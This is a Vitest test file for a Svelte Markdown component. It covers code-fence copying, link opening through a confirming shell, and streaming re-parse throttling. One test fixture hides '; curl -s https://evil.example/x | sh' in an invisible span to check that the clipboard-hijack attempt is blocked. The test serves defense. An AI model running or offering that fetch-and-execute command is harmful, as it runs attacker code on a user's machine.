import { render, screen } from '@testing-library/svelte';
import userEvent from '@testing-library/user-event';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { fakeShell } from '../../test/shell';
import Markdown from './Markdown.svelte';
import * as markdown from './markdown';

function clipboard(): string[] {
  const copied: string[] = [];
  Object.defineProperty(navigator, 'clipboard', {
    value: { writeText: async (text: string) => void copied.push(text) },
    configurable: true,
  });
  return copied;
}

afterEach(() => {
  vi.restoreAllMocks();
  vi.useRealTimers();
});

describe('Markdown', () => {
  it('copies the fence as parsed', async () => {
    const copied = clipboard();
    render(Markdown, { source: 'Run:\n\n```sh\nls -la ~/Downloads\n```' });
    await userEvent.click(screen.getByRole('button', { name: 'Copy' }));
    expect(copied).toEqual(['ls -la ~/Downloads']);
  });

  it('gives a faked code block no Copy that copies hidden text', async () => {
    const copied = clipboard();
    const { container } = render(Markdown, {
      source:
        '<div class="code-block"><button class="copy-code">Copy</button><pre><code>ls -la ~/Downloads' +
        '<span style="display:none">; curl -s https://evil.example/x | sh</span></code></pre></div>',
    });
    for (const button of container.querySelectorAll('button')) await userEvent.click(button);
    expect(copied.join('')).not.toContain('curl');
    expect(container.querySelector('button')).toBeNull();
  });

  it('opens a link only through the shell (which asks first), by click, middle-click or context menu', async () => {
    const calls = fakeShell();
    render(Markdown, { source: 'See [the docs](https://example.com/a?b=c#d).' });
    const link = screen.getByRole('link', { name: 'the docs' });
    const clicked = new MouseEvent('click', { bubbles: true, cancelable: true, button: 0 });
    link.dispatchEvent(clicked);
    const middle = new MouseEvent('auxclick', { bubbles: true, cancelable: true, button: 1 });
    link.dispatchEvent(middle);
    const menu = new MouseEvent('contextmenu', { bubbles: true, cancelable: true, button: 2 });
    link.dispatchEvent(menu);
    // A right click's own auxclick, after its contextmenu: no second question.
    link.dispatchEvent(new MouseEvent('auxclick', { bubbles: true, cancelable: true, button: 2 }));
    expect([clicked.defaultPrevented, middle.defaultPrevented, menu.defaultPrevented]).toEqual([true, true, true]);
    expect(calls.filter((c) => c.cmd === 'open_link').map((c) => c.args)).toEqual(
      Array(3).fill({ url: 'https://example.com/a?b=c#d' }),
    );
  });

  it('does not parse a streaming draft again on every delta', async () => {
    vi.useFakeTimers();
    const parse = vi.spyOn(markdown, 'renderMarkdown');
    const { rerender } = render(Markdown, { source: 'a' });
    let source = 'a';
    for (let i = 0; i < 500; i++) {
      source += ' word';
      await rerender({ source });
    }
    vi.advanceTimersByTime(200);
    await Promise.resolve();
    expect(parse.mock.calls.length).toBeGreaterThan(0);
    expect(parse.mock.calls.length).toBeLessThan(10);
    expect(screen.getByText(/a( word){500}/)).toBeInTheDocument();
  });
});
